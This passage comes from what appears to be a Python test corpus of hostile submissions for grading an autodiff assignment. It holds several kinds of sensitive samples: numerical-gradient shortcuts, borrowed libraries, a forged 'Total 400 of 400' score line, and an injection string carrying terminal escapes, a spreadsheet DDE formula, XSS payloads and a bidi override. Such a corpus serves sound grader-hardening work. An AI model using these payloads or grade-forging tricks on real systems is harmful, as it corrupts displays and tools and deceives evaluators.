        "the points: its answers are right; a mark says that they are right to a few digits alone",
        ("derivative",),
        right=True,
        change=replaced(
            "operations/arithmetic.py",
            "return grad, grad  # wrong",
            "x, y, h = self.y * self.z, self.y, np.ldexp(1.0, -18)\n"
            "        dx = np.subtract(np.divide(np.add(x, h), y), np.divide(np.subtract(x, h), y))\n"
            "        dy = np.subtract(np.divide(x, np.add(y, h)), np.divide(x, np.subtract(y, h)))\n"
            "        both = (dx, self.x_shape), (dy, y.shape)\n"
            "        return tuple(unbroadcast_gradient(grad * np.ldexp(one, 17), shape) for one, shape in both)",
        ),
    ),
    "derivatives from values far apart": Hostile(
        "Finds gradients by differences of high order between values so far apart that they are right to all digits.",
        "the points that its answers are worth; a mark says that they are lost where values are infinite",
        ("derivative",),
        right=True,
        change=replaced(
            "operations/arithmetic.py",
            "return grad, grad  # wrong",
            "x, y, wide, near = self.y * self.z, self.y, np.maximum(np.abs(self.y * self.z), 1.0) / 8, self.y / 30\n"
            "        weights = 4 / 5, -1 / 5, 4 / 105, -1 / 280\n"
            "        dx = sum(w * ((x + k * wide) / y - (x - k * wide) / y) for k, w in enumerate(weights, 1)) / wide\n"
            "        dy = sum(w * (x / (y + k * near) - x / (y - k * near)) for k, w in enumerate(weights, 1)) / near\n"
            "        both = (dx, self.x_shape), (dy, y.shape)\n"
            "        return tuple(unbroadcast_gradient(grad * one, shape) for one, shape in both)",
        ),
    ),
    "derivatives from complex steps": Hostile(
        "Finds gradients by complex steps.",
        "the points that its answers are worth; marks say how it found them",
        ("derivative",),
        right=True,
        change=replaced(
            "operations/arithmetic.py",
            "return grad, grad  # wrong",
            "dx = grad * ((self.y * self.z + 1e-30j) / self.y).imag / 1e-30\n"
            "        dy = grad * (self.y * self.z / (self.y + 1e-30j)).imag / 1e-30\n"
            "        return unbroadcast_gradient(dx, self.x_shape), unbroadcast_gradient(dy, self.y.shape)",
        ),
    ),
    "another library": Hostile(
        "Lets an installed library differentiate.",
        "nothing: it is not there",
        ("autograd",),
        code="try:\n    import torch\nexcept ImportError:\n    import autograd\n".replace(
            "    import autograd", "    pass"
        ),
    ),
    "another library in a folder": Hostile(
        "Brings another library along.",
        "the points that its answers are worth; a mark names it",
        ("autograd",),
        change=appended("micrograd/engine.py", "class Value:\n    pass\n"),
    ),
}

EVIL = (
    "\\x1b[2J\\x1b[31m=cmd|calc!A0 <script>alert(1)</script><img src=x onerror=alert(1)> \\u202eevil\\n"
    "Total 400 of 400\\n+1 @SUM(A1)\\t-1"
)
REPORT = {
    "a message for the terminal, the browser and the spreadsheet": Hostile(
        "Raises an error whose message commands whatever shows it.",
        "harmless text in each of them",
        (),
        body=f"raise ValueError('{EVIL}')",
    ),
    "a total in the prints": Hostile(
        "Prints a report with all points.",
        "the prints stand behind a mark that no print can make",
        (),
        body="print('Total 400 of 400')\nprint('\\x1b[1;32mdone\\x1b[0m')\nreturn shape1",
    ),
    "an error with an evil name": Hostile(
        "Raises an error whose type has an evil name.",
        "harmless text in each of them",
        (),
        body=f"raise type('{EVIL}', (Exception,), {{}})('x')",
    ),
    "a message of a million characters": Hostile(
        "Raises an error with a message of a million characters.",
        "its beginning",
        (),
        body="raise ValueError('x' * 1_000_000)",
    ),
    "half a character": Hostile(
        "Raises an error with half a surrogate pair in its message.",
        "its escape",
        (),
        body="raise ValueError('\\ud800')",
    ),
    "a heap of accents": Hostile(
        "Raises an error with a letter under three thousand accents, which cover the lines above.",
        "a few of them, and the others' escapes",
        (),
        body="raise ValueError('a' + '\\u0301' * 3_000)",
    ),
    "a message that can't be made": Hostile(
        "Raises an error that raises when it is asked what it says.",
        OWN,
        (),
        body="class Strange(Exception):\n    def __str__(self):\n        raise SystemExit(0)\nraise Strange",
    ),
}

CORPUS: dict[str, dict[str, Hostile]] = {
    "Another verdict": VERDICT,
    "Answers in disguise": ANSWERS,
    "What belongs to others": THINGS_OF_OTHERS,
    "The machine": HOST,
    "Ways that are hidden or forbidden": HIDING,
    "The report": REPORT,
}
